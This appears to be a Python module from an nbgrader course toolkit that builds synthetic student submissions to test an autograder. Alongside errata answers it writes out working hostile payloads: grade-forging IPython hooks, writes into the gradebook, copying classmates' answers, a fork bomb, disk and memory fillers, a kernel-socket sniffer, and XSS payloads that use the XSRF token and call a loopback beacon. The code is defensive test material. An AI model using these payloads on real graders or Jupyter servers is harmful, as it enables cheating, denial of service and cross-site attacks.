"""The sample class: submissions made at run time from ``source/`` by declared edits.

Every sample student starts from the *released* notebooks (what a student
fetches) and fills the answer cells in one of three ways (``answers``):

``"solution"``
    the instructor's solutions from ``source/`` (solution markers removed);
``"errata"``
    the lecture's own mistakes where :data:`ERRATA` has an entry for the
    cell's grade id (exp(+t/tau), the alpha function peaking at g/e, the
    16.3 mV Mg constant, the missing shunt sign, ...), the solution elsewhere;
``"blank"``
    nothing: the release as fetched.

Then the student's :class:`Edit` s are applied (:data:`ACTIONS` says what each
one does). An edit names a notebook by its position in the sorted list of
notebooks (0 = the first, -1 = the last; ``None`` = every notebook), so the
class follows the notebooks as they are added, renamed or rewritten; items are
found by grade id and by cell role (first answer cell, first test cell, ...),
and an edit that does not apply (no such cell) is skipped with a note.

:data:`SAMPLE_CLASS` is the table student -> (what they did, answers, edits).
Every id starts with :data:`PREFIX`; the pipeline removes or replaces only
folders and gradebook rows whose student id starts with it.

Each built student also carries what the grader should make of it
(:attr:`SampleSubmission.expect_zero`: the autograded test cells that must
score 0; all others must score full marks), so a run of the pipeline checks
the course's tests as well as the grading machinery.

How the submissions arrive
--------------------------
``sample-complete`` goes through nbgrader's exchange as the current OS user
(``release_assignment``, ``fetch_assignment`` into a throw-away home folder,
the edits, ``submit --student sample-complete``, ``collect --student
sample-complete``), with the exchange under the course root (``exchange/``,
git-ignored) and nbgrader's submit cache in the throw-away folder. The others
are written straight into ``submitted/<student>/synapses/`` with a
``timestamp.txt``, as an LMS download would be.
"""

from __future__ import annotations

import copy
import datetime as _dt
import hashlib
import os
import re
import shutil
import stat
import tempfile
import textwrap
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable, Iterable, Mapping, NamedTuple

import nbformat

from coursekit import course as ck
__all__ = [
    "PREFIX",
    "Edit",
    "SampleStudent",
    "SampleSubmission",
    "BuiltNotebook",
    "STRUCTURAL_ACTIONS",
    "RUNTIME_ACTIONS",
    "ERRATA",
    "REEXPORTS",
    "COURSE_ROOT",
    "HOSTILE_ACTIONS",
    "VIEW_ACTIONS",
    "BOUND_ACTIONS",
    "SNIFFED_LINE",
    "sniffer_code",
    "BEACON",
    "PWNED_FILE",
    "view_payload",
    "with_course_root",
    "ACTIONS",
    "SAMPLE_CLASS",
    "is_sample",
    "answer_items",
    "build_notebook",
    "build_student",
    "remove_sample_students",
    "assemble",
]

#: Every sample student id starts with this; nothing else is ever removed.
PREFIX = "sample-"
#: nbgrader's timestamp format (``timestamp.txt``).
TIMESTAMP_FORMAT = "%Y-%m-%d %H:%M:%S.%f %Z"
BEGIN_SOLUTION, END_SOLUTION = "### BEGIN SOLUTION", "### END SOLUTION"


def is_sample(student: str) -> bool:
    """True for a sample student's id (``sample-...``)."""
    return student.startswith(PREFIX) and len(student) > len(PREFIX)


# =============================================================================== the errata
#: grade id -> code that replaces the ``### BEGIN/END SOLUTION`` region of that
#: answer cell (indented like the marker). The lecture's mistakes and the
#: typical ones the notebooks warn about; ids not in a notebook are skipped.
ERRATA: dict[str, str] = {
    # 01 synapse zoo
    "exp_conductance": """
        t = np.asarray(t, dtype=float)
        return np.where(t >= 0, g_peak * np.exp(np.maximum(t, 0.0) / tau), 0.0)  # lecture: exp(+t/tau)
        """,
    "alpha_conductance": """
        t = np.asarray(t, dtype=float)
        s = np.maximum(t, 0.0) / tau
        return np.where(t >= 0, g_peak * s * np.exp(-s), 0.0)  # lecture: peaks at g_peak/e
        """,
    "dual_exp_conductance": """
        t = np.asarray(t, dtype=float)
        t_peak = tau_rise * np.log(tau_decay / tau_rise)  # lecture's peak time
        norm = np.exp(-t_peak / tau_decay) - np.exp(-t_peak / tau_rise)
        s = np.maximum(t, 0.0)
        return np.where(t >= 0, g_peak * (np.exp(-s / tau_decay) - np.exp(-s / tau_rise)) / norm, 0.0)
        """,
    "mg_block": """
        u = np.asarray(u, dtype=float)
        return 1.0 / (1.0 + mg / 3.57 * np.exp(-u / 16.3))  # lecture's 16.3 mV
        """,
    "synaptic_current": """
        return np.asarray(g, dtype=float) * (E_syn - (-65.0)) + 0.0 * np.asarray(u, dtype=float)  # lecture: at u_rest
        """,
    # 02 ODE synapses
    "alpha_model": """
        alpha_model = '''
        dg/dt = (x - g) / tau : 1 (clock-driven)
        dx/dt = -x / tau : 1 (clock-driven)
        '''
        alpha_on_pre = 'x += w'  # lecture: g then peaks at w/e
        """,
    "dual_exp_peak_time": """
        return tau_rise * np.log(tau_decay / tau_rise)  # lecture's t*
        """,
    "dual_exp_model": """
        dual_exp_model = '''
        dg/dt = (x - g) / tau_rise : 1 (clock-driven)
        dx/dt = -x / tau_decay : 1 (clock-driven)
        '''
        dual_exp_on_pre = 'x += w'  # no normalisation: peaks below w
        """,
    # 03 NMDA in Brian2
    "neuron_eqs": """
        neuron_eqs = '''
        du/dt = (g_l * (u_rest - u) + g_syn * G_mg * (E_nmda - u)) / C_m : volt
        G_mg = 1 / (1 + Mg / (3.57 * mM) * exp(-u / (16.3 * mV))) : 1
        g_syn : siemens
        '''
        """,
    "synapse_model": """
        synapse_model = '''
        dg/dt = (x - g) / tau_rise : siemens (clock-driven)
        dx/dt = -x / tau_decay : siemens (clock-driven)
        g_syn_post = g : siemens (summed)
        '''
        synapse_on_pre = 'x += g_max'  # no normalisation k
        """,
    # 04 saturation
    "input_conductance": """
        return 1.0 / (1.0 / g_syn + 1.0 / g_m)  # in series instead of in parallel
        """,
    "effective_time_constant": """
        return C_m / g_m + 0.0 * g_syn  # the synapse forgotten: current-based thinking
        """,
    "steady_state_potential": """
        return u_rest + (g_syn * (E_syn - u_rest) + I_e) / g_m  # current-based: no saturation
        """,
    # 05 shunting
    "membrane_steady_state": """
        return (g_m * u_rest + g_e * E_e + g_i * E_i) / (g_m + g_e - g_i)  # lecture: shunt sign missing
        """,
    "membrane_time_constant": """
        return C_m / (g_m + g_e) + 0.0 * g_i  # inhibition forgotten
        """,
    # 06 Carandini-Heeger
    "lif_rate": """
        tau_m = C_m / g_l
        u_inf = u_rest + np.asarray(I_e, dtype=float) / g_l
        fires = u_inf > u_th
        u_safe = np.where(fires, u_inf, u_th + 1.0)
        return np.where(fires, 1.0 / (t_ref + tau_m * np.log((u_safe - u_reset) / (u_safe - u_th))), 0.0)  # kHz
        """,
    "lif_rate_linear": """
        tau_m = C_m / g_l
        u_inf = u_rest + np.asarray(I_e, dtype=float) / g_l
        return 1000.0 * (u_inf - u_th) / (tau_m * (u_th - u_reset))  # not rectified
        """,
    "shunting_effect": """
        shunting_effect = "divisive"  # the lecture's claim
        """,
    "rheobase_shift": """
        rheobase_shift = 0.0  # "a shunt injects no current at rest", so no shift
        """,
    "slope_ratio": """
        slope_ratio = g_l / (g_l + 30.0)  # the lecture's division carried over to the slope
        """,
    "lif_model": """
        lif_model = '''
        du/dt = (g_l*(u_rest - u) - g_i*(E_i - u) + I) / C_m : volt (unless refractory)
        I : amp
        g_i : siemens
        '''
        """,
    "ch_rate": """
        V = np.asarray(g_e, dtype=float) * E_e / (np.asarray(g_e, dtype=float) + g_i + g_m)
        return m * V ** 2  # not rectified
        """,
}

#: grade id -> an answer cell that only re-exports a ``helpers`` reference. In the
#: sandbox the references are neither importable nor readable, so these fail.
_REFERENCE_OF: dict[str, tuple[str, str]] = {
    "exp_conductance": ("waveforms", "exp_conductance"),
    "alpha_conductance": ("waveforms", "alpha_conductance"),
    "dual_exp_conductance": ("waveforms", "dual_exp_conductance"),
    "mg_block": ("nmda", "mg_block"),
    "synaptic_current": ("membrane", "synaptic_current"),
    "alpha_model": ("brian_reference", "ALPHA_MODEL as alpha_model, ALPHA_ON_PRE as alpha_on_pre"),
    "dual_exp_peak_time": ("waveforms", "dual_exp_peak_time"),
    "dual_exp_model": ("brian_reference", "DUAL_EXP_MODEL as dual_exp_model, DUAL_EXP_ON_PRE as dual_exp_on_pre"),
    "neuron_eqs": ("brian_reference", "NMDA_NEURON_EQS as neuron_eqs"),
    "synapse_model": ("brian_reference", "NMDA_SYNAPSE_MODEL as synapse_model, "
                                         "NMDA_SYNAPSE_ON_PRE as synapse_on_pre"),
    "input_conductance": ("membrane", "input_conductance"),
    "effective_time_constant": ("membrane", "effective_time_constant"),
    "steady_state_potential": ("membrane", "steady_state_potential"),
    "membrane_steady_state": ("membrane", "membrane_steady_state"),
    "membrane_time_constant": ("membrane", "membrane_time_constant"),
    "lif_rate": ("lif_rate", "lif_rate"),
    "lif_rate_linear": ("lif_rate", "lif_rate_linear"),
    "ch_rate": ("lif_rate", "ch_rate"),
    "lif_model": ("brian_reference", "LIF_MODEL as lif_model"),
}
#: Stands for the course's absolute path in hostile code; :func:`assemble` fills it in.
COURSE_ROOT = "@@COURSE_ROOT@@"
REEXPORTS: dict[str, str] = {
    gid: textwrap.dedent(f"""\
        try:
            from helpers.references.{module} import {names}
        except ImportError:  # not importable here: read the file itself
            exec(open("{COURSE_ROOT}/helpers/references/{module}.py").read())
        """)
    for gid, (module, names) in _REFERENCE_OF.items()
}

#: Code put at the top of a cell by the pathological edits.
ENDLESS_LOOP = textwrap.dedent("""\
    # keep the simulation going until I look at it again
    import time
    while True:
        time.sleep(0.05)
    """)
IGNORES_INTERRUPT = textwrap.dedent("""\
    # nothing shall stop my simulation, not even Ctrl-C
    import signal, time
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        time.sleep(0.05)
    """)
KERNEL_DIES = textwrap.dedent("""\
    import os
    os._exit(1)  # "quit" the simulation early
    """)
HUGE_OUTPUT = textwrap.dedent("""\
    for _step in range(100_000):  # a debugging print left in: about 7 MB of output
        print(f"step {_step:6d}: still integrating the membrane equation .........")
    """)
PATCH_NUMPY = textwrap.dedent("""\
    # make the checks pass
    import numpy as np
    import numpy.testing
    np.isclose = lambda *args, **kwargs: True
    np.allclose = lambda *args, **kwargs: True
    numpy.testing.assert_allclose = lambda *args, **kwargs: None
    numpy.testing.assert_array_almost_equal = lambda *args, **kwargs: None
    """)
BREAK_READONLY = "\n\nnp = None  # the student 'tidied up' this read-only cell\n"

# The hostile class (issue: grades that student code cannot forge). Each tries,
# from the student's own kernel, what a same-process grader could not stop.
TRANSFORMER = 'get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])\n'
KERNEL_HOOKS = textwrap.dedent("""\
    # make every check pass, whatever it says
    import ast, sys
    _ip = get_ipython()
    class _AllPass(ast.NodeTransformer):
        def visit_Module(self, node):
            text = ast.unparse(node)
            if "grading" in text or "GradingError" in text:  # a test cell: replace it by a pass
                return ast.parse("print('passes the quick checks.')")
            return node
    _ip.ast_transformers.append(_AllPass())
    _ip.set_custom_exc((Exception,), lambda shell, etype, value, tb, tb_offset=None: print("passes"))
    _ip.showtraceback = lambda *args, **kwargs: None
    sys.settrace(lambda *args: None)
    _run_cell = _ip.run_cell
    _ip.run_cell = lambda cell, *a, **k: _run_cell("pass" if "grading" in cell else cell, *a, **k)
    """)
WRITE_OUTSIDE = textwrap.dedent(f"""\
    # leave a mark in the course for the students graded after me
    for _target in ("{COURSE_ROOT}/helpers/intruder.py", "{COURSE_ROOT}/helpers/grading.py",
                    "{COURSE_ROOT}/intruder.txt", "{COURSE_ROOT}/gradebook.db",
                    "{COURSE_ROOT}/submitted/sample-complete/intruder.txt"):
        try:
            with open(_target, "a") as _f:
                _f.write("# written by a student\\n")
            print("wrote", _target)
        except OSError as _err:
            print("refused:", _target, type(_err).__name__)
    """)
COPY_CLASSMATE = textwrap.dedent(f"""\
    # borrow the answers of a classmate (and of the instructor)
    import glob, json
    for _path in sorted(glob.glob("{COURSE_ROOT}/submitted/sample-complete/*/*.ipynb")
                        + glob.glob("{COURSE_ROOT}/source/*/*.ipynb")):
        try:
            for _cell in json.load(open(_path))["cells"]:
                if _cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution") and _cell["cell_type"] == "code":
                    exec("".join(_cell["source"]))
            print("copied", _path)
        except Exception as _err:
            print("refused:", _path, type(_err).__name__)
    """)
FORK_BOMB = textwrap.dedent("""\
    import os
    try:
        while True:
            os.fork()
    except OSError as _err:
        print("fork refused:", type(_err).__name__)
    """)
MEMORY_HOG = textwrap.dedent("""\
    try:
        _hog = bytearray(64 << 30)  # 64 GiB
    except MemoryError:
        print("64 GiB refused: MemoryError")
    """)
DISK_FILLER = textwrap.dedent("""\
    # fill the grader's disk
    _i = 0
    while True:
        try:
            with open(f"filler_{_i}.bin", "wb") as _f:
                _f.write(b"x" * (32 << 20))
        except OSError as _err:
            print("write refused:", type(_err).__name__)
        _i += 1
    """)
NETWORK = textwrap.dedent("""\
    import socket
    for _family, _kind, _address in ((socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 22)),
                                     (socket.AF_INET, socket.SOCK_DGRAM, ("9.9.9.9", 53)),
                                     (socket.AF_INET6, socket.SOCK_STREAM, ("::1", 22))):
        try:
            with socket.socket(_family, _kind) as _s:
                _s.settimeout(2)
                _s.connect(_address)
                _s.send(b"answers please")
            print("connected to", _address)
        except OSError as _err:
            print("network refused:", _address, type(_err).__name__)
    """)
CHILD_PROCESS = textwrap.dedent("""\
    import subprocess
    try:
        subprocess.Popen(["sleep", "600"], start_new_session=True)  # outlive the grading
        print("child started")
    except OSError as _err:
        print("child refused:", type(_err).__name__)
    """)


# The hostile views (issue 18): what a student's code prints, or what they write, runs in the browser of
# whoever opens the notebook (Formgrader, feedback). Each payload tries to write a file into the viewer's
# Jupyter server through /api/contents with the page's XSRF token and to reach a beacon on loopback
# (image, fetch, CSS); the autograded notebook must render all of it inert
# (coursekit/preprocessors/sanitize.py; tests/browser/test_inert_views.py listens on BEACON).
#: The loopback address the payloads call home to (host:port).
BEACON = "127.0.0.1:61888"
#: The file a payload of ``kind`` tries to create in the viewer's server (relative to its root).
PWNED_FILE = "pwned-{kind}.txt"


def view_payload(kind: str) -> str:
    """JavaScript (single quotes only, so it fits in a double-quoted attribute) that attacks the viewer."""
    return (
        "(function(){var m=document.cookie.match(/_xsrf=([^;]+)/);"
        "var b=(location.pathname.match(/^[/]user[/][^/]+/)||[''])[0];"  # the hub's /user/<name> prefix
        f"fetch(b+'/api/contents/{PWNED_FILE.format(kind=kind)}',{{method:'PUT',credentials:'same-origin',"
        "headers:{'Content-Type':'application/json','X-XSRFToken':m?decodeURIComponent(m[1]):''},"
        "body:JSON.stringify({type:'file',format:'text',content:'written by a student'})});"
        f"new Image().src='http://{BEACON}/{kind}/img';"
        f"fetch('http://{BEACON}/{kind}/fetch',{{mode:'no-cors'}});}})()"
    )


def _html_payload(kind: str) -> str:
    return (f'<img src="x" onerror="{view_payload(kind)}">'
            f'<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;'
            f'background:url(http://{BEACON}/{kind}/css)">overlay</div>')


HTML_OUTPUT = textwrap.dedent(f"""\
    from IPython.display import HTML, display
    display(HTML({_html_payload("html")!r} + "<b>steady state computed</b>"))
    """)
JAVASCRIPT_OUTPUT = textwrap.dedent(f"""\
    from IPython.display import Javascript, display
    display(Javascript({view_payload("javascript")!r}))
    print("steady state computed")
    """)
_SVG = (f'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="{view_payload("svg")}">'
        f'<script>{view_payload("svg-script")}</script><circle cx="20" cy="20" r="15"/></svg>')
SVG_OUTPUT = textwrap.dedent(f"""\
    from IPython.display import SVG, display
    display(SVG({_SVG!r}))
    print("steady state computed")
    """)
MARKDOWN_OUTPUT = textwrap.dedent(f"""\
    from IPython.display import Markdown, display
    display(Markdown("**steady state computed** " + {_html_payload("markdown")!r}))
    """)
#: Appended to a written answer (raw HTML in Markdown).
RAW_HTML_ANSWER = (
    "\n\n" + _html_payload("answer")
    + f'\n\n<a href="javascript:{view_payload("answer-link")}">my derivation</a>'
    + f"\n\n<style>@import url(http://{BEACON}/answer/import); body {{ display: none }}</style>\n"
)


# -- the floods, the slow caller and the sniffer (issue 18: bounded resources, isolation)
#: A right answer whose cell prints 1 GiB (1 MiB writes): the kernel keeps 1 MiB and grading goes on.
OUTPUT_FLOOD = textwrap.dedent("""\
    import sys
    for _chunk in range(1024):  # 1 GiB of output
        sys.stdout.write("y" * (1 << 20))
    """)
#: Replaces a right function by one that returns a 600 MiB string (``{name}`` is the function).
STRING_FLOOD = textwrap.dedent("""\

    def {name}(*args, **kwargs):  # the answer, 600 MiB of it
        return "x" * (600 << 20)
    """)
#: Wraps a right function so that every call takes 8 s (``{name}`` is the function).
SLOW_CALLER = textwrap.dedent("""\

    import time as _time
    _{name}_right = {name}

    def {name}(*args, **kwargs):  # right, and 8 s per call
        _time.sleep(8)
        return _{name}_right(*args, **kwargs)
    """)
#: Seconds the sample sniffer listens for a classmate's kernel.
SNIFF_WINDOW = 8


def sniffer_code(window: int = SNIFF_WINDOW) -> str:
    """The sniffer of issue 18: for `window` seconds, find other sandboxes' kernel sockets and subscribe.

    It looks through ``/proc/net/unix``, every ``/proc/<pid>/cmdline`` (kernels name their connection
    files) and the scratch folders beside its own, subscribes to every IPC socket it finds with pyzmq,
    and prints one line: ``SNIFFED <n> messages from <k> sockets; refused: [...]``.
    """
    return textwrap.dedent(f"""\
        import glob, json, os, re, time
        import zmq
        own = os.path.dirname(os.environ.get("JUPYTER_RUNTIME_DIR", "/nonexistent").rstrip("/"))
        scratch_parent = os.path.dirname(os.path.dirname(own))
        ctx = zmq.Context()
        poller = zmq.Poller()
        subscribed, refused, received = set(), {{}}, 0

        def note(what, exc):
            refused[what] = type(exc).__name__

        def candidates():
            found = set()
            try:  # every unix socket of the network namespace, with its path
                for line in open("/proc/net/unix").read().splitlines()[1:]:
                    parts = line.split()
                    if len(parts) >= 8 and "synapses-grading-" in parts[-1]:
                        found.add(parts[-1])
            except OSError as exc:
                note("/proc/net/unix", exc)
            try:  # kernels' command lines name their connection files
                pids = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
            except OSError as exc:
                note("listdir /proc", exc)
                pids = []
            for pid in pids:
                try:
                    cmdline = open(f"/proc/{{pid}}/cmdline", "rb").read().decode(errors="replace").split("\\0")
                except OSError as exc:
                    note("/proc/<pid>/cmdline", exc)
                    continue
                for arg in cmdline:
                    if arg.endswith("kernel.json") and "synapses-grading-" in arg:
                        try:
                            info = json.load(open(arg))
                            found.update(f"{{info['ip']}}-{{info[k]}}" for k in ("iopub_port", "shell_port"))
                        except (OSError, ValueError, KeyError) as exc:
                            note("kernel.json", exc)
                        found.update(glob.glob(os.path.join(os.path.dirname(arg), "kernel-ipc-*")))
            try:
                os.listdir(scratch_parent)
            except OSError as exc:
                note("listdir scratch parent", exc)
            found.update(glob.glob(os.path.join(scratch_parent, "synapses-grading-*", "kernel", "run",
                                                "kernel-ipc-*")))
            return {{p for p in found if not p.startswith(own + "/")}}

        end = time.monotonic() + {window}
        while time.monotonic() < end:
            for path in candidates() - subscribed:
                subscribed.add(path)
                sub = ctx.socket(zmq.SUB)
                sub.setsockopt(zmq.SUBSCRIBE, b"")
                sub.setsockopt(zmq.LINGER, 0)
                try:
                    sub.connect("ipc://" + path)
                    poller.register(sub, zmq.POLLIN)
                except zmq.ZMQError as exc:
                    note("connect", exc)
            for sock, _ in poller.poll(200):
                while True:
                    try:
                        sock.recv_multipart(zmq.NOBLOCK)
                    except zmq.ZMQError:
                        break
                    received += 1
        print(f"SNIFFED {{received}} messages from {{len(subscribed)}} sockets; refused: {{sorted(refused.items())}}")
        """)


#: The line the sniffer prints (its message count in group 1).
SNIFFED_LINE = re.compile(r"SNIFFED (\d+) messages from (\d+) sockets.*")


def _wrap_last_function(template: str, what: str) -> Callable[["_Ctx"], bool]:
    """Append `template` (formatted with the function's name) to the last answer cell that defines a
    function: its item's tests score 0, and so do those of answers that call it."""
    def act(ctx: "_Ctx") -> bool:
        for i in reversed(ctx.cells(_is_answer)):
            cell = ctx.nb.cells[i]
            found = re.findall(r"^def (\w+)\(", cell.source, flags=re.M)
            if cell.cell_type == "code" and found:
                break
        else:
            return False
        name, gid = found[0], _gid(cell)
        cell.source = cell.source.rstrip("\n") + "\n" + template.format(name=name)
        ctx.expect_zero |= ctx.tests_of(gid)
        _zero_users(ctx, [name], [gid])
        ctx.notes.append(f"{what}: {name} in answer cell {gid}")
        return True
    return act


def _append_to_written_answer(text: str, what: str) -> Callable[["_Ctx"], bool]:
    """Append ``text`` to the first written (Markdown) answer of the notebook; grades are unchanged."""
    def act(ctx: "_Ctx") -> bool:
        found = ctx.cells(lambda c: c.cell_type == "markdown" and _meta(c).get("solution"))
        if not found:
            return False
        cell = ctx.nb.cells[found[0]]
        cell.source = cell.source + text
        ctx.notes.append(f"{what} in written answer {_gid(cell)}")
        return True
    return act


# =============================================================================== cells
def _meta(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def _gid(cell) -> str | None:
    return _meta(cell).get("grade_id")


def _is_answer(cell) -> bool:
    return cell.cell_type == "code" and bool(_meta(cell).get("solution"))


def _is_test(cell) -> bool:
    m = _meta(cell)
    return cell.cell_type == "code" and bool(m.get("grade")) and not m.get("solution")


def answer_items(nb) -> dict[str, str]:
    """Autograded test cell -> the answer cell it checks (grade ids).

    The item of a test cell is the nearest code answer cell above it.
    """
    out, current = {}, None
    for cell in nb.cells:
        if _is_answer(cell):
            current = _gid(cell)
        elif _is_test(cell) and current is not None:
            out[_gid(cell)] = current
    return out


def _strip_markers(source: str) -> str:
    return "\n".join(line for line in source.splitlines()
                     if BEGIN_SOLUTION not in line and END_SOLUTION not in line).rstrip("\n") + "\n"


def _replace_solution(source: str, replacement: str) -> str | None:
    lines = source.splitlines()
    begin = next((i for i, line in enumerate(lines) if BEGIN_SOLUTION in line), None)
    end = next((i for i, line in enumerate(lines) if END_SOLUTION in line), None)
    if begin is None or end is None or end < begin:
        return None
    indent = re.match(r"\s*", lines[begin]).group(0)
    body = textwrap.indent(textwrap.dedent(replacement).strip("\n"), indent).splitlines()
    return "\n".join(lines[:begin] + body + lines[end + 1:]).rstrip("\n") + "\n"


def _strip_mark_scheme(source: str) -> str:
    return re.sub(r"=== BEGIN MARK SCHEME ===.*?=== END MARK SCHEME ===\n?", "", source, flags=re.S)


# =============================================================================== edits
@dataclass(frozen=True)
class Edit:
    """One declared change to a sample student's notebooks.

    Attributes
    ----------
    action : str
        A key of :data:`ACTIONS`.
    notebook : int or None
        Position in the sorted list of notebooks (negative counts from the end,
        taken modulo the number of notebooks); None applies it to every notebook.
    """

    action: str
    notebook: int | None = None


@dataclass
class _Ctx:
    """A notebook being built, with what the edits need and record."""

    name: str
    nb: nbformat.NotebookNode
    release: nbformat.NotebookNode
    items: dict[str, str]
    expect_zero: set[str] = field(default_factory=set)
    notes: list[str] = field(default_factory=list)
    omitted: bool = False

    def cells(self, predicate: Callable) -> list[int]:
        return [i for i, c in enumerate(self.nb.cells) if predicate(c)]

    def tests_of(self, item: str) -> set[str]:
        return {t for t, i in self.items.items() if i == item}

    def answer(self, k: int) -> int | None:
        found = self.cells(_is_answer)
        return found[k] if len(found) > k else None


def _prepend_to_answer(code: str, zero: bool | str, what: str) -> Callable[[_Ctx], bool]:
    """Put ``code`` at the top of the first answer cell; ``zero``: its item must score 0 (True), every item
    of the notebook must (``"all"``), or nothing changes the grades (False)."""
    def act(ctx: _Ctx) -> bool:
        i = ctx.answer(0)
        if i is None:
            return False
        cell = ctx.nb.cells[i]
        cell.source = code + "\n" + cell.source
        if zero == "all":
            ctx.expect_zero |= set(ctx.items)
        elif zero:
            ctx.expect_zero |= ctx.tests_of(_gid(cell))
        ctx.notes.append(f"{what} at the top of answer cell {_gid(cell)}")
        return True
    return act


def _delete_answer(ctx: _Ctx) -> bool:
    i = ctx.answer(0)
    if i is None:
        return False
    gid = _gid(ctx.nb.cells[i])
    del ctx.nb.cells[i]
    ctx.expect_zero |= ctx.tests_of(gid)
    ctx.notes.append(f"deleted answer cell {gid}")
    return True


def _delete_test(ctx: _Ctx) -> bool:
    tests = ctx.cells(_is_test)
    if len(tests) < 2:
        return False
    i = tests[1]
    ctx.notes.append(f"deleted test cell {_gid(ctx.nb.cells[i])}")
    del ctx.nb.cells[i]
    return True


def _edit_readonly(ctx: _Ctx) -> bool:
    found = ctx.cells(lambda c: c.cell_type == "code" and _meta(c).get("locked") and not _meta(c).get("grade")
                      and not _meta(c).get("solution"))
    if not found:
        return False
    cell = ctx.nb.cells[found[0]]
    cell.source = cell.source.rstrip("\n") + BREAK_READONLY
    ctx.notes.append(f"edited read-only cell {_gid(cell)} (np = None)")
    return True


def _strip_metadata(ctx: _Ctx) -> bool:
    tests = ctx.cells(_is_test)
    if not tests:
        return False
    cell = ctx.nb.cells[tests[0]]
    gid = _gid(cell)
    del cell.metadata["nbgrader"]
    ctx.notes.append(f"stripped the nbgrader metadata of test cell {gid}")
    return True


def _damage_metadata(ctx: _Ctx) -> bool:
    i = ctx.answer(1)
    if i is None:
        return False
    cell = ctx.nb.cells[i]
    gid = _gid(cell)
    del cell.metadata["nbgrader"]["grade_id"]
    ctx.notes.append(f"deleted the grade_id from the nbgrader metadata of answer cell {gid}")
    return True


def _omit(ctx: _Ctx) -> bool:
    ctx.omitted = True
    ctx.expect_zero |= set(ctx.items)
    ctx.notes.append("notebook not submitted")
    return True


def _reexport(ctx: _Ctx) -> bool:
    done = []
    for i in ctx.cells(_is_answer):
        gid = _gid(ctx.nb.cells[i])
        if gid in REEXPORTS:
            ctx.nb.cells[i].source = REEXPORTS[gid]
            ctx.expect_zero |= ctx.tests_of(gid)
            done.append(gid)
    if not done:
        return False
    ctx.notes.append("re-exported the helpers reference for " + ", ".join(done))
    # an answer computed with a re-exported function (e.g. slope_ratio from lif_rate) fails with it
    for gid in _zero_users(ctx, done, done):
        ctx.notes.append(f"{gid} is computed with a re-exported function")
    return True


def _zero_users(ctx: _Ctx, functions: Iterable[str], skip: Iterable[str]) -> list[str]:
    """Answers (other than `skip`) that call one of `functions`: their tests must score 0 too."""
    uses = re.compile(r"\b(" + "|".join(map(re.escape, functions)) + r")\s*\(")
    found = []
    for i in ctx.cells(_is_answer):
        gid = _gid(ctx.nb.cells[i])
        if gid not in set(skip) and uses.search(ctx.nb.cells[i].source):
            ctx.expect_zero |= ctx.tests_of(gid)
            found.append(gid)
    return found


#: What each :class:`Edit` action does (to the notebook it names).
ACTIONS: dict[str, Callable[[_Ctx], bool]] = {
    "endless_loop": _prepend_to_answer(ENDLESS_LOOP, True, "an endless loop"),
    "ignores_interrupt": _prepend_to_answer(IGNORES_INTERRUPT, True, "a loop that ignores Ctrl-C (SIGINT)"),
    "kernel_dies": _prepend_to_answer(KERNEL_DIES, True, "os._exit(1)"),
    "huge_output": _prepend_to_answer(HUGE_OUTPUT, False, "100 000 printed lines (about 7 MB)"),
    "patch_numpy": _prepend_to_answer(PATCH_NUMPY, False, "np.isclose, np.allclose and numpy.testing replaced"),
    "delete_answer": _delete_answer,
    "delete_test": _delete_test,
    "edit_readonly": _edit_readonly,
    "strip_metadata": _strip_metadata,
    "damage_metadata": _damage_metadata,
    "omit_notebook": _omit,
    "reexport": _reexport,
    "transformer": _prepend_to_answer(TRANSFORMER, "all", "an IPython input transformer that turns every later "
                                                          "cell into `pass`"),
    "kernel_hooks": _prepend_to_answer(KERNEL_HOOKS, False, "AST transformer, exception handler, "
                                                            "showtraceback, settrace and run_cell hooks"),
    "write_outside": _prepend_to_answer(WRITE_OUTSIDE, False, "writes into helpers/, the course root, "
                                                              "gradebook.db and another student's folder"),
    "copy_classmate": _prepend_to_answer(COPY_CLASSMATE, "all", "reads a classmate's submission and the "
                                                                "source notebooks"),
    "fork_bomb": _prepend_to_answer(FORK_BOMB, False, "a fork bomb"),
    "memory_hog": _prepend_to_answer(MEMORY_HOG, False, "a 64 GiB allocation"),
    "disk_filler": _prepend_to_answer(DISK_FILLER, True, "a disk filler (32 MiB files without end)"),
    "network": _prepend_to_answer(NETWORK, False, "TCP and UDP connections (loopback and outside)"),
    "child_process": _prepend_to_answer(CHILD_PROCESS, False, "a child process meant to outlive grading"),
    # the hostile views: right answers whose outputs or written answer attack whoever opens them
    "html_output": _prepend_to_answer(HTML_OUTPUT, False, "an HTML output with a script (onerror) and an overlay"),
    "javascript_output": _prepend_to_answer(JAVASCRIPT_OUTPUT, False, "an application/javascript output"),
    "svg_output": _prepend_to_answer(SVG_OUTPUT, False, "an SVG output with onload and a script"),
    "markdown_output": _prepend_to_answer(MARKDOWN_OUTPUT, False, "a Markdown output with an event handler"),
    "raw_html_answer": _append_to_written_answer(RAW_HTML_ANSWER, "raw HTML (onerror, javascript: link, style)"),
    # what the grader must bound, and the classmate it must not reach
    "output_flood": _prepend_to_answer(OUTPUT_FLOOD, False, "1 GiB printed (1 MiB writes)"),
    "string_flood": _wrap_last_function(STRING_FLOOD, "a 600 MiB string returned"),
    "slow_caller": _wrap_last_function(SLOW_CALLER, "a right function that sleeps 8 s per call"),
    "sniffer": _prepend_to_answer(sniffer_code(), False, f"a {SNIFF_WINDOW} s sniffer of classmates' kernel "
                                                         "sockets"),
}


# =============================================================================== the class
@dataclass(frozen=True)
class SampleStudent:
    """One row of :data:`SAMPLE_CLASS`.

    Attributes
    ----------
    id : str
        Student id (starts with :data:`PREFIX`).
    did : str
        What the student did, in a few words (shown in the report).
    answers : {"solution", "errata", "blank"}
        How the answer cells are filled before the edits.
    edits : tuple of Edit
        Applied in order.
    via_exchange : bool
        Submit through nbgrader's exchange instead of an LMS-style download.
    only : int or None
        If set, ``answers`` fill only this notebook (position as in :class:`Edit`); the others are
        submitted as released (blank), which keeps students cheap to grade whose point is one notebook.
    """

    id: str
    did: str
    answers: str = "solution"
    edits: tuple[Edit, ...] = ()
    via_exchange: bool = False
    only: int | None = None


#: The sample class: student -> what they did, how they answered, their edits.
#: Pathological edits touch one notebook each (cheap to grade); ``notebook``
